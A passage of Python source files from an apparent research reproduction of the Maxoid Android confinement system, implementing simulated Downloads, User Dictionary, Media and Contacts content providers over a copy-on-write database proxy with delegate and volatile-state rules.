