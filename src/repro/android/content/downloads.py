"""The Downloads provider (paper sections 5.3 and 6.2).

Beyond passive storage, Downloads has background work: it fetches files
from the network and posts completion notifications. The Maxoid port:

- two tables (``downloads`` and ``request_headers``) go through the COW
  proxy; for a delegate's operation the proxy selects the COW views of
  *both* tables;
- the background worker uses the **administrative view** to see public and
  volatile records alike, tracking which state each belongs to;
- an initiator may request a **volatile download** (the ``isVolatile``
  flag): the record lands in its delta table and the fetched file in its
  volatile branch — this is what incognito download is built on (7.1);
- download *requests* from delegates get an emulated network error
  (section 6.2), because a fetch of a delegate-chosen URL could leak the
  initiator's secrets in the URL itself; delegates may still insert or
  update entries that describe existing files.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence

from repro.errors import FileNotFound, SecurityException
from repro.android.content.provider import ContentProvider, ContentValues
from repro.android.content.system_io import SystemStorageIO
from repro.android.storage import EXTDIR
from repro.android.uri import Uri
from repro.core.cow import CowProxy
from repro.kernel import path as vpath
from repro.kernel.network import NetworkStack
from repro.kernel.proc import Process, TaskContext
from repro.minisql.engine import ResultSet

AUTHORITY = "downloads"
DOWNLOADS_URI = Uri.content(AUTHORITY, "all_downloads")

# Android DownloadManager status codes.
STATUS_PENDING = 190
STATUS_RUNNING = 192
STATUS_SUCCESS = 200
STATUS_ERROR_NETWORK = 495


@dataclass
class DownloadNotification:
    """A completion notification: what the status bar would show."""

    download_id: int
    title: str
    transparent_path: str
    state: Optional[str]  # None = public; package = that initiator's Vol

    @property
    def is_volatile(self) -> bool:
        return self.state is not None


class DownloadsProvider(ContentProvider):
    """Downloads store + background fetcher."""

    authority = AUTHORITY
    owner = None

    DEFAULT_DIR = vpath.join(EXTDIR, "Download")

    def __init__(self, network: NetworkStack, io: SystemStorageIO, system_process: Process):
        self.proxy = CowProxy()
        self.proxy.create_table(
            "CREATE TABLE downloads ("
            "_id INTEGER PRIMARY KEY, "
            "uri TEXT, "
            "_data TEXT, "
            "title TEXT, "
            "status INTEGER DEFAULT 190, "
            "total_bytes INTEGER DEFAULT 0)"
        )
        self.proxy.create_table(
            "CREATE TABLE request_headers ("
            "_id INTEGER PRIMARY KEY, "
            "download_id INTEGER, "
            "header TEXT, "
            "value TEXT)"
        )
        self._network = network
        self._io = io
        self._system_process = system_process
        self.notifications: List[DownloadNotification] = []

    # ------------------------------------------------------------------
    # Provider operations
    # ------------------------------------------------------------------

    def insert(self, uri: Uri, values: ContentValues, context: TaskContext) -> Uri:
        table = self._table_for(uri)
        record = values.as_dict()
        headers = record.pop("headers", None)
        is_fetch_request = bool(record.get("uri"))
        if table == "downloads" and "_data" not in record and is_fetch_request:
            name = str(record.get("title") or f"download-{len(self.proxy.db.table('downloads')) + 1}")
            record["_data"] = vpath.join(self.DEFAULT_DIR, name)
        if context.is_delegate:
            # Emulated network failure for a delegate's fetch request; pure
            # metadata rows (no remote URI) are allowed.
            if table == "downloads" and is_fetch_request:
                record["status"] = STATUS_ERROR_NETWORK
            row_id = self.proxy.insert(table, context.initiator, record)
            return Uri.content(AUTHORITY, "all_downloads").with_appended_id(row_id)
        if values.is_volatile:
            if context.app is None:
                raise SecurityException("isVolatile requires an app caller")
            if table == "downloads" and is_fetch_request:
                record.setdefault("status", STATUS_PENDING)
            row_id = self.proxy.insert_volatile(table, context.app, record)
            row_uri = DOWNLOADS_URI.to_volatile().with_appended_id(row_id)
        else:
            if table == "downloads" and is_fetch_request:
                record.setdefault("status", STATUS_PENDING)
            row_id = self.proxy.insert(table, None, record)
            row_uri = DOWNLOADS_URI.with_appended_id(row_id)
        if headers:
            for header, value in dict(headers).items():
                header_row = {"download_id": row_id, "header": header, "value": value}
                if values.is_volatile:
                    self.proxy.insert_volatile("request_headers", context.app, header_row)
                else:
                    self.proxy.insert("request_headers", None, header_row)
        return row_uri

    def update(
        self,
        uri: Uri,
        values: ContentValues,
        where: Optional[str],
        params: Sequence[object],
        context: TaskContext,
    ) -> int:
        table = self._table_for(uri)
        initiator = self.initiator_of(context)
        clause, bound = self._where_for(uri, where, params)
        return self.proxy.update(table, initiator, values.as_dict(), clause, bound)

    def delete(
        self, uri: Uri, where: Optional[str], params: Sequence[object], context: TaskContext
    ) -> int:
        table = self._table_for(uri)
        initiator = self.initiator_of(context)
        clause, bound = self._where_for(uri, where, params)
        return self.proxy.delete(table, initiator, clause, bound)

    def query(
        self,
        uri: Uri,
        projection: Optional[Sequence[str]],
        where: Optional[str],
        params: Sequence[object],
        order_by: Optional[str],
        context: TaskContext,
    ) -> ResultSet:
        table = self._table_for(uri)
        if uri.is_volatile:
            if context.is_delegate:
                raise SecurityException("volatile URIs are reserved for initiators")
            if context.app is None:
                return ResultSet()
            result = self.proxy.volatile_rows(table, context.app)
            row_id = uri.to_normal().row_id
            if row_id is not None and result.rows:
                id_index = [c.lower() for c in result.columns].index("_id")
                result = ResultSet(
                    columns=result.columns,
                    rows=[r for r in result.rows if r[id_index] == row_id],
                )
            return result
        initiator = self.initiator_of(context)
        clause, bound = self._where_for(uri, where, params)
        return self.proxy.query(
            table, initiator, projection=projection, where=clause, params=bound, order_by=order_by
        )

    def open_file(self, uri: Uri, context: TaskContext) -> bytes:
        """Read a downloaded file's bytes via the File wrapper."""
        row_id = uri.to_normal().row_id
        if row_id is None:
            raise FileNotFound(str(uri))
        for row in self.proxy.admin_rows("downloads"):
            if row["_id"] == row_id and not row["_whiteout"]:
                state = self._state_package(str(row["_state"]))
                return self._io.read(state, str(row["_data"]))
        raise FileNotFound(str(uri))

    # ------------------------------------------------------------------
    # Background worker
    # ------------------------------------------------------------------

    def run_pending(self) -> int:
        """Fetch every pending download (public and volatile). Returns the
        number of downloads processed. The worker runs in the system
        process, which is never a delegate, so the network is reachable."""
        processed = 0
        for row in self.proxy.admin_rows("downloads"):
            if row["_whiteout"] or row["status"] != STATUS_PENDING:
                continue
            state = self._state_package(str(row["_state"]))
            processed += 1
            self._fetch_one(int(row["_id"]), str(row["uri"]), str(row["_data"]), state)
        return processed

    def _fetch_one(self, row_id: int, url: str, transparent_path: str, state: Optional[str]) -> None:
        self._set_status(row_id, state, STATUS_RUNNING)
        try:
            host, resource = self._split_url(url)
            socket = self._network.connect(self._system_process, host)
            data = socket.fetch(resource)
        except FileNotFound:
            self._set_status(row_id, state, STATUS_ERROR_NETWORK)
            return
        self._io.write(state, transparent_path, data)
        self._set_status(row_id, state, STATUS_SUCCESS, total_bytes=len(data))
        title_result = self._row_value(row_id, state, "title")
        self.notifications.append(
            DownloadNotification(
                download_id=row_id,
                title=str(title_result or ""),
                transparent_path=transparent_path,
                state=state,
            )
        )

    def _set_status(self, row_id: int, state: Optional[str], status: int, total_bytes: Optional[int] = None) -> None:
        assignments: Dict[str, object] = {"status": status}
        if total_bytes is not None:
            assignments["total_bytes"] = total_bytes
        table = "downloads" if state is None else self.proxy.delta_name("downloads", state)
        sets = ", ".join(f"{c} = ?" for c in assignments)
        self.proxy.db.execute(
            f"UPDATE {table} SET {sets} WHERE _id = ?",
            list(assignments.values()) + [row_id],
        )

    def _row_value(self, row_id: int, state: Optional[str], column: str) -> object:
        table = "downloads" if state is None else self.proxy.delta_name("downloads", state)
        return self.proxy.db.execute(
            f"SELECT {column} FROM {table} WHERE _id = ?", [row_id]
        ).scalar()

    # ------------------------------------------------------------------

    @staticmethod
    def _split_url(url: str) -> "tuple[str, str]":
        stripped = url.split("://", 1)[-1]
        host, _, resource = stripped.partition("/")
        return host, resource

    @staticmethod
    def _state_package(state: str) -> Optional[str]:
        """Map an admin ``_state`` tag back to an initiator package key."""
        if state == "public":
            return None
        return state[len("vol:") :]

    @staticmethod
    def _table_for(uri: Uri) -> str:
        normal = uri.to_normal()
        first = normal.segments[0] if normal.segments else ""
        if first in ("all_downloads", "my_downloads", "downloads"):
            return "downloads"
        if first == "headers":
            return "request_headers"
        raise FileNotFound(str(uri))

    @staticmethod
    def _where_for(uri: Uri, where: Optional[str], params: Sequence[object]):
        row_id = uri.to_normal().row_id
        if row_id is None:
            return where, list(params)
        clause = "_id = ?"
        if where:
            clause = f"({where}) AND _id = ?"
        return clause, list(params) + [row_id]
