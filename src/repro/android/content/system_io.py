"""File access for system providers: the "File-class wrapper".

Downloads and Media store *transparent* path names (what clients see, e.g.
``/storage/sdcard/Download/x.bin``) in their databases, but a record that
belongs to an initiator's volatile state has its actual bytes in that
initiator's volatile branch. The paper: "Maxoid makes all volatile tmp
directories visible to Downloads, but the path names of the files are
different from those stored in the database ... We wrote a wrapper of
Java's File class to automate locating files."

:class:`SystemStorageIO` is that wrapper: given a record's state (``None``
for public, or the owning initiator's package) and its transparent path,
it computes the real path in the system process's namespace — where the
volatile file forest is mounted at ``/maxoid/vol``.
"""

from __future__ import annotations

from typing import List, Optional

from repro.kernel import path as vpath
from repro.kernel.syscall import Syscalls
from repro.android.storage import EXTDIR
from repro.core.cow import initiator_key

#: Where the system namespace mounts the volatile file forest.
VOLATILE_MOUNT = "/maxoid/vol"


class SystemStorageIO:
    """Path mapping + file I/O for system services."""

    def __init__(self, sys: Syscalls, extdir: str = EXTDIR) -> None:
        self._sys = sys
        self._extdir = extdir

    def data_path(self, state: Optional[str], transparent_path: str) -> str:
        """The real path for a record's file.

        ``state`` is ``None`` for public records or the owning initiator's
        package for volatile records. Volatile paths under EXTDIR map into
        the initiator's ``ext`` volatile branch.
        """
        if state is None:
            return vpath.normalize(transparent_path)
        if not vpath.is_within(transparent_path, self._extdir):
            raise ValueError(
                f"volatile record path {transparent_path} is outside {self._extdir}"
            )
        relative = vpath.relative_to(transparent_path, self._extdir)
        return vpath.join(VOLATILE_MOUNT, initiator_key(state), "ext", relative)

    # -- I/O through the system namespace ---------------------------------

    def write(self, state: Optional[str], transparent_path: str, data: bytes) -> str:
        real = self.data_path(state, transparent_path)
        self._sys.makedirs(vpath.parent(real))
        self._sys.write_file(real, data)
        return real

    def read(self, state: Optional[str], transparent_path: str) -> bytes:
        """Read a record's file.

        For a volatile record the bytes usually live in the volatile
        branch, but a volatile record may also *reference* a still-public
        file (per-name COW: unmodified files are shared) — fall back to
        the public path, mirroring the union view the record's owner has.
        """
        if state is not None:
            volatile = self.data_path(state, transparent_path)
            if self._sys.exists(volatile):
                return self._sys.read_file(volatile)
        return self._sys.read_file(self.data_path(None, transparent_path))

    def exists(self, state: Optional[str], transparent_path: str) -> bool:
        return self._sys.exists(self.data_path(state, transparent_path))

    def delete(self, state: Optional[str], transparent_path: str) -> None:
        real = self.data_path(state, transparent_path)
        if self._sys.exists(real):
            self._sys.unlink(real)
