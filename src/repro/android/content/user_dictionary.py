"""The User Dictionary provider (paper section 5.1, 5.3).

"User Dictionary is purely a passive storage service ... porting is
trivial, though we add new URIs for volatile state."

URIs:

- ``content://user_dictionary/words`` — all words
- ``content://user_dictionary/words/<n>`` — the word with ``_id = n``
- ``content://user_dictionary/tmp/words[/<n>]`` — the caller's volatile
  records (initiators only)
"""

from __future__ import annotations

from typing import Optional, Sequence

from repro.errors import SecurityException
from repro.android.content.provider import ContentProvider, ContentValues
from repro.android.uri import Uri
from repro.core.cow import CowProxy
from repro.kernel.proc import TaskContext
from repro.minisql.engine import ResultSet

AUTHORITY = "user_dictionary"
WORDS_URI = Uri.content(AUTHORITY, "words")


class UserDictionaryProvider(ContentProvider):
    """Word store backed by the COW proxy."""

    authority = AUTHORITY
    owner = None  # trusted system provider

    def __init__(self) -> None:
        self.proxy = CowProxy()
        self.proxy.create_table(
            "CREATE TABLE words ("
            "_id INTEGER PRIMARY KEY, "
            "word TEXT NOT NULL, "
            "frequency INTEGER DEFAULT 1, "
            "locale TEXT, "
            "appid INTEGER DEFAULT 0)"
        )

    # ------------------------------------------------------------------

    def _check_uri(self, uri: Uri, context: TaskContext) -> None:
        if uri.is_volatile and context.is_delegate:
            # Delegates always use normal URIs; their confinement is the
            # proxy's job, and volatile URIs are the *initiator's* window.
            raise SecurityException("volatile URIs are reserved for initiators")

    def _where_for(self, uri: Uri, where: Optional[str], params: Sequence[object]):
        row_id = uri.row_id
        if row_id is None:
            return where, list(params)
        clause = "_id = ?"
        if where:
            clause = f"({where}) AND _id = ?"
        return clause, list(params) + [row_id]

    # ------------------------------------------------------------------

    def insert(self, uri: Uri, values: ContentValues, context: TaskContext) -> Uri:
        self._check_uri(uri, context)
        initiator = self.initiator_of(context)
        if values.is_volatile:
            if context.is_delegate:
                raise SecurityException(
                    "only initiators may create volatile records explicitly"
                )
            if context.app is None:
                raise SecurityException("isVolatile requires an app caller")
            row_id = self.proxy.insert_volatile("words", context.app, values.as_dict())
            return WORDS_URI.to_volatile().with_appended_id(row_id)
        row_id = self.proxy.insert("words", initiator, values.as_dict())
        return WORDS_URI.with_appended_id(row_id)

    def update(
        self,
        uri: Uri,
        values: ContentValues,
        where: Optional[str],
        params: Sequence[object],
        context: TaskContext,
    ) -> int:
        self._check_uri(uri, context)
        initiator = self.initiator_of(context)
        clause, bound = self._where_for(uri.to_normal(), where, params)
        if uri.is_volatile:
            # Initiator editing its volatile copies directly.
            if context.app is None or not self.proxy.has_delta("words", context.app):
                return 0
            delta = self.proxy.delta_name("words", context.app)
            sql = f"UPDATE {delta} SET " + ", ".join(f"{c} = ?" for c in values.as_dict())
            if clause:
                sql += f" WHERE {clause}"
            result = self.proxy.db.execute(sql, list(values.as_dict().values()) + bound)
            return result.rowcount
        return self.proxy.update("words", initiator, values.as_dict(), clause, bound)

    def delete(
        self, uri: Uri, where: Optional[str], params: Sequence[object], context: TaskContext
    ) -> int:
        self._check_uri(uri, context)
        initiator = self.initiator_of(context)
        clause, bound = self._where_for(uri.to_normal(), where, params)
        if uri.is_volatile:
            if context.app is None or not self.proxy.has_delta("words", context.app):
                return 0
            delta = self.proxy.delta_name("words", context.app)
            sql = f"DELETE FROM {delta}"
            if clause:
                sql += f" WHERE {clause}"
            return self.proxy.db.execute(sql, bound).rowcount
        return self.proxy.delete("words", initiator, clause, bound)

    def query(
        self,
        uri: Uri,
        projection: Optional[Sequence[str]],
        where: Optional[str],
        params: Sequence[object],
        order_by: Optional[str],
        context: TaskContext,
    ) -> ResultSet:
        self._check_uri(uri, context)
        initiator = self.initiator_of(context)
        clause, bound = self._where_for(uri.to_normal(), where, params)
        if uri.is_volatile:
            if context.app is None:
                return ResultSet()
            result = self.proxy.volatile_rows("words", context.app)
            if uri.to_normal().row_id is not None:
                wanted = uri.to_normal().row_id
                id_index = [c.lower() for c in result.columns].index("_id")
                result = ResultSet(
                    columns=result.columns,
                    rows=[r for r in result.rows if r[id_index] == wanted],
                )
            return result
        return self.proxy.query(
            "words", initiator, projection=projection, where=clause, params=bound, order_by=order_by
        )
