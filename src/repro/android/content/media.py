"""The Media provider (paper sections 5.3 and 7.2).

Media demonstrates the COW proxy's *view hierarchy*: a single base table
``files`` stores every media record; ``images``, ``audio_meta`` and
``video`` are SQL views selecting over it; ``audio`` is a view over three
tables/views (``audio_meta`` joined with ``artists`` and ``albums``). The
proxy rewrites each view's bases to COW views per initiator, on demand.

Media also has active work beyond storage: scanning a file creates a
thumbnail. Like Downloads, the modified provider tracks which state each
record belongs to, and puts side artifacts (thumbnails) in the same state
— a *public* scan leaves a public thumbnail on the SD card (one of the
Table 1 traces), a *delegate's* scan leaves it in the initiator's
volatile branch.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence

from repro.errors import FileNotFound, SecurityException
from repro.android.content.provider import ContentProvider, ContentValues
from repro.android.content.system_io import SystemStorageIO
from repro.android.storage import EXTDIR
from repro.android.uri import Uri
from repro.core.cow import CowProxy
from repro.kernel import path as vpath
from repro.kernel.proc import TaskContext
from repro.minisql.engine import ResultSet

AUTHORITY = "media"
FILES_URI = Uri.content(AUTHORITY, "files")

MEDIA_TYPE_NONE = 0
MEDIA_TYPE_IMAGE = 1
MEDIA_TYPE_AUDIO = 2
MEDIA_TYPE_VIDEO = 3

THUMBNAIL_DIR = vpath.join(EXTDIR, "DCIM", ".thumbnails")


class MediaProvider(ContentProvider):
    """Media store with the paper's exact view hierarchy."""

    authority = AUTHORITY
    owner = None

    #: URI path component -> (object name, is a single-table write target)
    _SOURCES = {
        "files": "files",
        "images": "images",
        "audio_meta": "audio_meta",
        "video": "video",
        "audio": "audio",
        "artists": "artists",
        "albums": "albums",
    }

    def __init__(self, io: SystemStorageIO):
        self.proxy = CowProxy()
        self.proxy.create_table(
            "CREATE TABLE files ("
            "_id INTEGER PRIMARY KEY, "
            "_data TEXT, "
            "media_type INTEGER DEFAULT 0, "
            "title TEXT, "
            "size INTEGER DEFAULT 0, "
            "date_added INTEGER DEFAULT 0, "
            "artist_id INTEGER, "
            "album_id INTEGER)"
        )
        self.proxy.create_table(
            "CREATE TABLE artists (artist_id INTEGER PRIMARY KEY, artist TEXT)"
        )
        self.proxy.create_table(
            "CREATE TABLE albums (album_id INTEGER PRIMARY KEY, album TEXT)"
        )
        self.proxy.create_user_view(
            "images",
            "SELECT _id, _data, title, size, date_added FROM files WHERE media_type = 1",
        )
        self.proxy.create_user_view(
            "audio_meta",
            "SELECT _id, _data, title, size, artist_id, album_id FROM files "
            "WHERE media_type = 2",
        )
        self.proxy.create_user_view(
            "video",
            "SELECT _id, _data, title, size, date_added FROM files WHERE media_type = 3",
        )
        # "audio is a view defined on three tables/views, including
        # audio_meta" (paper 5.3).
        self.proxy.create_user_view(
            "audio",
            "SELECT am._id, am._data, am.title, ar.artist, al.album "
            "FROM audio_meta am, artists ar, albums al "
            "WHERE am.artist_id = ar.artist_id AND am.album_id = al.album_id",
        )
        self._io = io
        self.thumbnails_created: List[str] = []

    # ------------------------------------------------------------------

    def _source_for(self, uri: Uri) -> str:
        normal = uri.to_normal()
        first = normal.segments[0] if normal.segments else ""
        source = self._SOURCES.get(first)
        if source is None:
            raise FileNotFound(str(uri))
        return source

    @staticmethod
    def _where_for(uri: Uri, where: Optional[str], params: Sequence[object]):
        row_id = uri.to_normal().row_id
        if row_id is None:
            return where, list(params)
        clause = "_id = ?"
        if where:
            clause = f"({where}) AND _id = ?"
        return clause, list(params) + [row_id]

    # ------------------------------------------------------------------

    def insert(self, uri: Uri, values: ContentValues, context: TaskContext) -> Uri:
        source = self._source_for(uri)
        if source not in ("files", "artists", "albums"):
            raise SecurityException(f"{source} is a read-only view; insert into files")
        record = values.as_dict()
        generate_thumbnail = bool(record.pop("generate_thumbnail", False))
        if values.is_volatile:
            if context.is_delegate:
                raise SecurityException(
                    "only initiators may create volatile records explicitly"
                )
            if context.app is None:
                raise SecurityException("isVolatile requires an app caller")
            row_id = self.proxy.insert_volatile(source, context.app, record)
            state: Optional[str] = context.app
            row_uri = Uri.content(AUTHORITY, source).to_volatile().with_appended_id(row_id)
        else:
            initiator = self.initiator_of(context)
            row_id = self.proxy.insert(source, initiator, record)
            state = initiator
            row_uri = Uri.content(AUTHORITY, source).with_appended_id(row_id)
        if source == "files" and generate_thumbnail and record.get("_data"):
            self._create_thumbnail(state, str(record["_data"]))
        return row_uri

    def _create_thumbnail(self, state: Optional[str], data_path: str) -> None:
        """Write the thumbnail in the same state as its record."""
        name = vpath.basename(data_path) + ".thumb"
        thumb_path = vpath.join(THUMBNAIL_DIR, name)
        try:
            content = self._io.read(state, data_path)
        except FileNotFound:
            # The media file may live in the caller's private view (e.g. a
            # delegate scanning an initiator-private file); thumbnail the
            # name only.
            content = b""
        thumbnail = b"THUMB:" + content[:16]
        self._io.write(state, thumb_path, thumbnail)
        self.thumbnails_created.append(thumb_path)

    def update(
        self,
        uri: Uri,
        values: ContentValues,
        where: Optional[str],
        params: Sequence[object],
        context: TaskContext,
    ) -> int:
        source = self._source_for(uri)
        if source not in ("files", "artists", "albums"):
            raise SecurityException(f"{source} is a read-only view; update files")
        initiator = self.initiator_of(context)
        clause, bound = self._where_for(uri, where, params)
        return self.proxy.update(source, initiator, values.as_dict(), clause, bound)

    def delete(
        self, uri: Uri, where: Optional[str], params: Sequence[object], context: TaskContext
    ) -> int:
        source = self._source_for(uri)
        if source not in ("files", "artists", "albums"):
            raise SecurityException(f"{source} is a read-only view; delete from files")
        initiator = self.initiator_of(context)
        clause, bound = self._where_for(uri, where, params)
        return self.proxy.delete(source, initiator, clause, bound)

    def query(
        self,
        uri: Uri,
        projection: Optional[Sequence[str]],
        where: Optional[str],
        params: Sequence[object],
        order_by: Optional[str],
        context: TaskContext,
    ) -> ResultSet:
        source = self._source_for(uri)
        if uri.is_volatile:
            if context.is_delegate:
                raise SecurityException("volatile URIs are reserved for initiators")
            if context.app is None:
                return ResultSet()
            if source not in ("files", "artists", "albums"):
                raise SecurityException("volatile URIs address base tables")
            result = self.proxy.volatile_rows(source, context.app)
            row_id = uri.to_normal().row_id
            if row_id is not None and result.rows:
                id_index = 0
                result = ResultSet(
                    columns=result.columns,
                    rows=[r for r in result.rows if r[id_index] == row_id],
                )
            return result
        initiator = self.initiator_of(context)
        clause, bound = self._where_for(uri, where, params)
        return self.proxy.query(
            source, initiator, projection=projection, where=clause, params=bound, order_by=order_by
        )

    def open_file(self, uri: Uri, context: TaskContext) -> bytes:
        row_id = uri.to_normal().row_id
        if row_id is None:
            raise FileNotFound(str(uri))
        for row in self.proxy.admin_rows("files"):
            if row["_id"] == row_id and not row["_whiteout"]:
                state = str(row["_state"])
                package = None if state == "public" else state[len("vol:") :]
                return self._io.read(package, str(row["_data"]))
        raise FileNotFound(str(uri))
