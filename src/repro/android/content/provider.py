"""The content-provider framework: values, resolver, per-URI grants.

Provider calls are Binder transactions, so the Maxoid Binder policy (a
delegate may talk to system providers, its initiator, and sibling
delegates) applies automatically. System content providers are trusted
system endpoints; app-defined providers belong to their owning package.

Per-URI permissions model Android's ``FLAG_GRANT_READ_URI_PERMISSION``
(the Email-attachment mechanism, paper section 2.2): a one-time, read-only
capability for one URI, checked when the target opens the URI.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Sequence, Set, Tuple

from repro.errors import ProviderNotFound, SecurityException
from repro.android.uri import Uri
from repro.kernel.binder import BinderDriver, Transaction
from repro.kernel.proc import Process, TaskContext
from repro.minisql.engine import ResultSet


class ContentValues:
    """Column values for an insert/update, plus Maxoid's ``isVolatile``
    flag (paper section 6.1, initiator API 4)."""

    def __init__(self, values: Optional[Dict[str, object]] = None, is_volatile: bool = False):
        self._values: Dict[str, object] = dict(values or {})
        self.is_volatile = is_volatile

    def put(self, key: str, value: object) -> "ContentValues":
        self._values[key] = value
        return self

    def get(self, key: str, default: object = None) -> object:
        return self._values.get(key, default)

    def as_dict(self) -> Dict[str, object]:
        return dict(self._values)

    def __contains__(self, key: str) -> bool:
        return key in self._values

    def __len__(self) -> int:
        return len(self._values)


class ContentProvider:
    """Base class for providers.

    Subclasses implement the four content operations. ``context`` is the
    *calling process's* task context: providers use it (via the Maxoid API
    the paper describes) to select the correct view in the COW proxy.
    """

    authority: str = ""
    #: Package owning an app-defined provider; None marks a trusted system
    #: provider reachable by delegates.
    owner: Optional[str] = None
    #: Android's ``android:exported="true"`` with no permission attribute:
    #: any app may open the provider's URIs without a per-URI grant. The
    #: indirect-file-leak attack surface (see repro.apps.adversarial) —
    #: Binder policy for delegates still applies on top.
    exported: bool = False

    def insert(self, uri: Uri, values: ContentValues, context: TaskContext) -> Uri:
        raise NotImplementedError

    def update(
        self,
        uri: Uri,
        values: ContentValues,
        where: Optional[str],
        params: Sequence[object],
        context: TaskContext,
    ) -> int:
        raise NotImplementedError

    def delete(
        self, uri: Uri, where: Optional[str], params: Sequence[object], context: TaskContext
    ) -> int:
        raise NotImplementedError

    def query(
        self,
        uri: Uri,
        projection: Optional[Sequence[str]],
        where: Optional[str],
        params: Sequence[object],
        order_by: Optional[str],
        context: TaskContext,
    ) -> ResultSet:
        raise NotImplementedError

    def open_file(self, uri: Uri, context: TaskContext) -> bytes:
        """Return the file content a URI maps to (the simulated
        ParcelFileDescriptor hand-off)."""
        raise NotImplementedError

    # -- helper --------------------------------------------------------------

    @staticmethod
    def initiator_of(context: TaskContext) -> Optional[str]:
        """The COW-proxy initiator for a caller: its initiator when it is a
        delegate, else None (operate on public state)."""
        return context.initiator if context.is_delegate else None


@dataclass
class _Grant:
    grantee: str
    uri: str
    one_time: bool


class UriPermissionGrants:
    """Android's per-URI permission table (read grants only, as in the
    Email case study)."""

    def __init__(self) -> None:
        self._grants: List[_Grant] = []

    def grant(self, grantee: str, uri: Uri, one_time: bool = True) -> None:
        self._grants.append(_Grant(grantee=grantee, uri=str(uri), one_time=one_time))

    def consume(self, grantee: str, uri: Uri) -> bool:
        """Check (and for one-time grants, consume) a read grant."""
        key = str(uri)
        for index, grant in enumerate(self._grants):
            if grant.grantee == grantee and grant.uri == key:
                if grant.one_time:
                    del self._grants[index]
                return True
        return False

    def has_grant(self, grantee: str, uri: Uri) -> bool:
        key = str(uri)
        return any(g.grantee == grantee and g.uri == key for g in self._grants)


class ContentResolver:
    """Routes content operations to providers over Binder."""

    def __init__(self, binder: BinderDriver) -> None:
        self._binder = binder
        self._providers: Dict[str, ContentProvider] = {}
        self.grants = UriPermissionGrants()

    def register(self, provider: ContentProvider) -> None:
        if not provider.authority:
            raise ValueError("provider needs an authority")
        self._providers[provider.authority] = provider
        self._binder.register(
            f"provider:{provider.authority}",
            self._make_handler(provider),
            owner=provider.owner,
            is_system=provider.owner is None,
        )

    def provider(self, authority: str) -> ContentProvider:
        provider = self._providers.get(authority)
        if provider is None:
            raise ProviderNotFound(authority)
        return provider

    def _make_handler(self, provider: ContentProvider):
        def handler(transaction: Transaction) -> Any:
            op = transaction.code
            args = transaction.payload
            context = transaction.sender_context
            if op == "insert":
                return provider.insert(args["uri"], args["values"], context)
            if op == "update":
                return provider.update(
                    args["uri"], args["values"], args["where"], args["params"], context
                )
            if op == "delete":
                return provider.delete(args["uri"], args["where"], args["params"], context)
            if op == "query":
                return provider.query(
                    args["uri"],
                    args["projection"],
                    args["where"],
                    args["params"],
                    args["order_by"],
                    context,
                )
            if op == "open_file":
                return provider.open_file(args["uri"], context)
            raise ValueError(f"unknown provider operation {op}")

        return handler

    # -- the client API ---------------------------------------------------

    def _transact(self, process: Process, uri: Uri, code: str, payload: Dict[str, Any]) -> Any:
        self.provider(uri.authority)  # fail fast with ProviderNotFound
        return self._binder.transact(process, f"provider:{uri.authority}", code, payload)

    def insert(self, process: Process, uri: Uri, values: ContentValues) -> Uri:
        return self._transact(process, uri, "insert", {"uri": uri, "values": values})

    def update(
        self,
        process: Process,
        uri: Uri,
        values: ContentValues,
        where: Optional[str] = None,
        params: Sequence[object] = (),
    ) -> int:
        return self._transact(
            process, uri, "update", {"uri": uri, "values": values, "where": where, "params": params}
        )

    def delete(
        self,
        process: Process,
        uri: Uri,
        where: Optional[str] = None,
        params: Sequence[object] = (),
    ) -> int:
        return self._transact(process, uri, "delete", {"uri": uri, "where": where, "params": params})

    def query(
        self,
        process: Process,
        uri: Uri,
        projection: Optional[Sequence[str]] = None,
        where: Optional[str] = None,
        params: Sequence[object] = (),
        order_by: Optional[str] = None,
    ) -> ResultSet:
        return self._transact(
            process,
            uri,
            "query",
            {
                "uri": uri,
                "projection": projection,
                "where": where,
                "params": params,
                "order_by": order_by,
            },
        )

    def open_input(self, process: Process, uri: Uri) -> bytes:
        """Open a provider URI for reading. For app-defined providers this
        checks per-URI grants (unless the caller is the owner, its
        delegate running for the owner's initiator chain, or was granted)."""
        provider = self.provider(uri.authority)
        if (
            provider.owner is not None
            and not provider.exported
            and process.context.app != provider.owner
        ):
            caller = process.context.app or ""
            if not self.grants.consume(caller, uri):
                raise SecurityException(
                    f"{process.context} has no grant for {uri}"
                )
        return self._transact(process, uri, "open_file", {"uri": uri})
