"""The Contacts provider — a fourth COW-proxy port (extension).

The paper ports three system content providers (User Dictionary,
Downloads, Media) and lists Contacts among the shared resources that are
"potentially sources of serious data leaks" (section 5.1). This module
ports Contacts the same way, demonstrating the proxy's generality on a
provider with a two-table schema plus a provider-defined join view:

- ``contacts`` — one row per person;
- ``phones`` — phone numbers, many per contact;
- ``contact_details`` — a provider-defined SQL view joining the two
  (so the COW hierarchy machinery is exercised, like Media's ``audio``).

Semantics under Maxoid confinement come for free from the proxy: a
delegate that "adds a contact" (say, a messaging app invoked on a shared
photo) writes a volatile record the initiator can commit or discard; a
delegate that scrapes the contact list sees only Pub(all) plus its own
volatile rows and cannot exfiltrate them (no network).
"""

from __future__ import annotations

from typing import Optional, Sequence

from repro.errors import SecurityException
from repro.android.content.provider import ContentProvider, ContentValues
from repro.android.uri import Uri
from repro.core.cow import CowProxy
from repro.kernel.proc import TaskContext
from repro.minisql.engine import ResultSet

AUTHORITY = "com.android.contacts"
CONTACTS_URI = Uri.content(AUTHORITY, "contacts")
PHONES_URI = Uri.content(AUTHORITY, "phones")
DETAILS_URI = Uri.content(AUTHORITY, "contact_details")


class ContactsProvider(ContentProvider):
    """Contacts store backed by the COW proxy."""

    authority = AUTHORITY
    owner = None

    _TABLES = {"contacts": "contacts", "phones": "phones"}
    _VIEWS = {"contact_details": "contact_details"}

    def __init__(self) -> None:
        self.proxy = CowProxy()
        self.proxy.create_table(
            "CREATE TABLE contacts ("
            "_id INTEGER PRIMARY KEY, "
            "display_name TEXT NOT NULL, "
            "starred INTEGER DEFAULT 0, "
            "times_contacted INTEGER DEFAULT 0)"
        )
        self.proxy.create_table(
            "CREATE TABLE phones ("
            "_id INTEGER PRIMARY KEY, "
            "contact_id INTEGER, "
            "number TEXT, "
            "label TEXT DEFAULT 'mobile')"
        )
        self.proxy.create_user_view(
            "contact_details",
            "SELECT c._id, c.display_name, p.number, p.label "
            "FROM contacts c, phones p WHERE p.contact_id = c._id",
        )

    # ------------------------------------------------------------------

    def _source_for(self, uri: Uri) -> str:
        normal = uri.to_normal()
